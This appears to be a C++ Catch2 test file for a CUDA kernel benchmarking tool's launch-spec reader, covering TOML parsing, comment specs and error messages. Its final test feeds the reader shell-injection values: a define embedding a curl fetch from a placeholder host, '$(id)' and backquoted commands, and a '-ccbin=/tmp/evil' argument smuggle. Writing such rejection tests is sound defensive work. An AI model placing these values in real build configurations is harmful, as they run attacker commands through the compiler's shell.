// SPDX-License-Identifier: Apache-2.0
#include "bench/launch_spec_reader.hpp"

#include <catch2/catch.hpp>

using namespace kforecast::bench;

namespace {

// The [[kernel]] example of docs/getting-started.md, with include_dirs and defines, as a config file holds it.
constexpr std::string_view design_example = R"spec([bench]
tolerance = 0.02

[[kernel]]
name = "sgemm_tiled"                 # or a template instantiation: "sgemm_tiled<64, 64, 8>"
file = "src/gemm.cu"                 # optional when the name is unique
sizes = [{ M = 4096, N = 4096, K = 4096 }, { M = 1024, N = 1024, K = 1024 }]
grid = ["ceil_div(N, 64)", "ceil_div(M, 64)"]
block = [256]
shared_bytes = "0"
include_dirs = ["include"]
defines = { USE_FAST_MATH = "1" }
[kernel.args]                        # by parameter name, types come from the kernel signature
M = "M"
N = "N"
K = "K"
alpha = "1.0"
A = { count = "M * K", init = "uniform(-1, 1)" }
B = { count = "K * N", init = "uniform(-1, 1)" }
beta = "0.0"
C = { count = "M * N", init = "uniform(-1, 1)", role = "inout", rtol = 1e-4 }
)spec";

std::string error_of(std::string_view toml) {
  auto specs = read_config_specs(toml, ".kforecast.toml");
  REQUIRE_FALSE(specs.has_value());
  CHECK(specs.error().exit_code == kforecast::ExitCode::usage);
  return specs.error().message;
}

}  // namespace

TEST_CASE("bench: the documented launch spec reads as written") {
  auto specs = read_config_specs(design_example, ".kforecast.toml");
  REQUIRE(specs.has_value());
  REQUIRE(specs->size() == 1);
  const LaunchSpec& spec = specs->front();
  CHECK(spec.name == "sgemm_tiled");
  CHECK(spec.file == "src/gemm.cu");
  CHECK(spec.origin == ".kforecast.toml:4");
  REQUIRE(spec.sizes.size() == 2);
  CHECK(spec.sizes[0].at("M") == 4096);
  CHECK(spec.sizes[1].at("K") == 1024);
  CHECK(spec.grid == std::vector<std::string>{"ceil_div(N, 64)", "ceil_div(M, 64)"});
  CHECK(spec.block == std::vector<std::string>{"256"});
  CHECK(spec.shared_bytes == "0");
  CHECK(spec.include_dirs == std::vector<std::string>{"include"});
  REQUIRE(spec.defines.size() == 1);
  CHECK(spec.defines[0] == std::pair<std::string, std::string>{"USE_FAST_MATH", "1"});
  REQUIRE(spec.args.size() == 8);
  const auto arg = [&](std::string_view name) -> const ArgumentSpec& {
    return *std::ranges::find(spec.args, name, &ArgumentSpec::name);
  };
  CHECK(std::get<ScalarSpec>(arg("alpha").value).value == "1.0");
  const auto& c = std::get<BufferSpec>(arg("C").value);
  CHECK(c.count == "M * N");
  CHECK(c.role == Role::inout);
  CHECK(c.rtol == 1e-4);
  REQUIRE(c.init.has_value());
  CHECK(c.init->distribution == Distribution::uniform);
  CHECK(std::get<BufferSpec>(arg("A").value).role == Role::in);
  CHECK(find_spec(*specs, "sgemm_tiled", "repo/src/gemm.cu") == &spec);
  CHECK(find_spec(*specs, "sgemm_tiled", "other.cu") == nullptr);
  CHECK(find_spec(*specs, "sgemm_tiled<64>", "") == &spec);
}

TEST_CASE("bench: a config without [[kernel]] has no specs") {
  auto specs = read_config_specs("[bench]\ntolerance = 0.02\n", "c.toml");
  REQUIRE(specs.has_value());
  CHECK(specs->empty());
}

TEST_CASE("bench: launch spec mistakes name the file, line, kernel and key") {
  CHECK(error_of("[[kernel]]\nname = \"k\"\ngird = [1]\nblock = [1]\n") ==
        ".kforecast.toml:3:1: [[kernel]] 'k': unknown key 'gird' (did you mean 'grid'?)\n"
        ".kforecast.toml:1:1: [[kernel]] 'k': a spec needs 'grid', e.g. grid = [\"ceil_div(n, 256)\"]");
  CHECK(error_of("[[kernel]]\nname = \"k\"\ngrid = []\nblock = [1]\n").find("key 'grid' must be a list of 1 to 3") !=
        std::string::npos);
  CHECK(error_of("[[kernel]]\nname = \"k\"\ngrid = [1, 2, 3, 4]\nblock = [1]\n").find("1 to 3") != std::string::npos);
  CHECK(error_of("[[kernel]]\ngrid = [1]\nblock = [1]\n").find("needs a 'name'") != std::string::npos);
  CHECK(error_of("[[kernel]]\nname = \"k\"\ngrid = [1]\nblock = [1]\nsizes = [{ n = \"big\" }]\n").find(":5:") !=
        std::string::npos);
  const std::string buffer_error = error_of(
      "[[kernel]]\nname = \"k\"\ngrid = [1]\nblock = [1]\n[kernel.args]\nx = { cont = \"n\", role = \"output\" }\n");
  CHECK(buffer_error.find(".kforecast.toml:6:7: [[kernel]] 'k': unknown key 'args.x.cont' (did you mean 'count'?)") !=
        std::string::npos);
  CHECK(buffer_error.find("key 'args.x.role' must be \"in\", \"out\" or \"inout\"") != std::string::npos);
  CHECK(buffer_error.find("buffer 'args.x' needs a 'count'") != std::string::npos);
  CHECK(
      error_of("[[kernel]]\nname = \"k\"\ngrid = [1]\nblock = [1]\nargs = { x = { count = 4, init = \"gauss(0)\" } }\n")
          .find("init 'gauss(0)': unknown distribution") != std::string::npos);
  CHECK(error_of("[[kernel]]\nname = \"k\"\ngrid = [1]\nblock = [1]\nargs = { x = { count = 4, rtol = -1 } }\n")
            .find("key 'args.x.rtol' must be a number") != std::string::npos);
  CHECK(error_of("[kernel]\nname = \"k\"\n").find("write [[kernel]], not [kernel]") != std::string::npos);
  CHECK(error_of("[[kernel]]\nname = \"k\"\ngrid = [1\n").find("invalid TOML") != std::string::npos);
}

TEST_CASE("bench: init distributions") {
  const auto init = [](std::string_view text) {
    auto parsed = parse_init(text);
    if (!parsed) FAIL(parsed.error().message);
    return *parsed;
  };
  CHECK(init("uniform(-1, 1)").distribution == Distribution::uniform);
  auto normal = parse_init(" normal(0.5, 2) ");
  REQUIRE(normal.has_value());
  CHECK(normal->a == 0.5);
  CHECK(normal->b == 2);
  CHECK(init("constant(3)").a == 3);
  CHECK(init("iota").b == 1);
  CHECK(init("iota(10, 2)").a == 10);
  CHECK(init("randint(0, 255)").b == 255);
  CHECK_FALSE(parse_init("uniform(1, -1)").has_value());
  CHECK_FALSE(parse_init("uniform(1)").has_value());
  CHECK_FALSE(parse_init("normal(0, 0)").has_value());
  CHECK_FALSE(parse_init("randint(0.5, 2)").has_value());
  CHECK_FALSE(parse_init("uniform(a, b)").has_value());
  CHECK_FALSE(parse_init("uniform(0, 1").has_value());
  CHECK_FALSE(parse_init("constant(nan)").has_value());
  const auto unknown = parse_init("zipf(1)");
  REQUIRE_FALSE(unknown.has_value());
  CHECK(unknown.error().message.find("known: uniform") != std::string::npos);
}

TEST_CASE("bench: a // kforecast: block above a kernel is its spec") {
  constexpr std::string_view source = R"spec(#include <cuda_fp16.h>
// Scales a vector.
// kforecast:
// sizes = [{ n = 1048576 }]
// grid = ["ceil_div(n, 256)"]
// block = [256]
// [kernel.args]
// x = { count = "n", init = "uniform(-1, 1)" }
// y = { count = "n", role = "out" }
// n = "n"
__global__ void scale(const float* x, float* y, int n) {}

// kforecast: grid = [1]
// block = [32]
// args.p = { count = 32 }
template <int B>
__global__ void tiled(float* p) {}

// A kernel without a spec.
__global__ void plain(float* p) {}
)spec";
  auto scale = read_comment_spec(source, 11, "scale", "src/scale.cu");
  REQUIRE(scale.has_value());
  REQUIRE(scale->has_value());
  CHECK((*scale)->name == "scale");
  CHECK((*scale)->origin == "src/scale.cu:3");
  CHECK((*scale)->grid == std::vector<std::string>{"ceil_div(n, 256)"});
  REQUIRE((*scale)->args.size() == 3);
  CHECK(std::get<BufferSpec>((*scale)->args[2].value).role == Role::out);  // sorted by name: n, x, y

  auto tiled = read_comment_spec(source, 16, "tiled<64>", "src/scale.cu");
  REQUIRE(tiled.has_value());
  REQUIRE(tiled->has_value());
  CHECK((*tiled)->name == "tiled<64>");
  CHECK((*tiled)->block == std::vector<std::string>{"32"});

  auto plain = read_comment_spec(source, 20, "plain", "src/scale.cu");
  REQUIRE(plain.has_value());
  CHECK_FALSE(plain->has_value());
  const auto first_line = read_comment_spec(source, 1, "x", "f.cu");
  CHECK_FALSE(first_line->has_value());
  const auto past_end = read_comment_spec(source, 9999, "x", "f.cu");
  CHECK_FALSE(past_end->has_value());
}

TEST_CASE("bench: mistakes in a comment spec give the source line") {
  constexpr std::string_view source = "// kforecast:\n// grid = [1]\n// blok = [32]\n__global__ void k() {}\n";
  auto spec = read_comment_spec(source, 4, "k", "k.cu");
  REQUIRE_FALSE(spec.has_value());
  CHECK(spec.error().message.find("k.cu:3:1: [[kernel]] 'k': unknown key 'blok' (did you mean 'block'?)") !=
        std::string::npos);
}

// A `// kforecast:` block comes from the pull request: its defines and folders reach nvcc, which
// runs its steps through a shell.
TEST_CASE("bench: a spec's define or folder that a shell would act on is an error naming the key") {
  const std::string spec = "[[kernel]]\nname = \"k\"\ngrid = [1]\nblock = [1]\n";
  CHECK(error_of(spec + "defines = { X = \"1$(curl -s http://HOST/x)\" }\n") ==
        ".kforecast.toml:5:17: [[kernel]] 'k': key 'defines.X': its value holds '$', which the shell nvcc runs its "
        "steps in would act on");
  CHECK(error_of(spec + "defines = { \"X($(id))\" = \"1\" }\n").find("'X($(id))' is not a macro name") !=
        std::string::npos);
  CHECK(error_of(spec + "defines = { \"X=1 -ccbin=/tmp/evil\" = \"1\" }\n").find("is not a macro name") !=
        std::string::npos);
  CHECK(error_of(spec + "include_dirs = [\"inc`id`\"]\n").find("key 'include_dirs': 'inc`id`' holds a backquote") !=
        std::string::npos);
  auto fine = read_config_specs(spec + "defines = { NAME = \"\\\"{a b}\\\"\", \"MAX(a, b)\" = \"a\" }\n", "c.toml");
  INFO((fine ? std::string() : fine.error().message));
  REQUIRE(fine);
  REQUIRE(fine->size() == 1);
  CHECK(fine->front().defines.size() == 2);
}
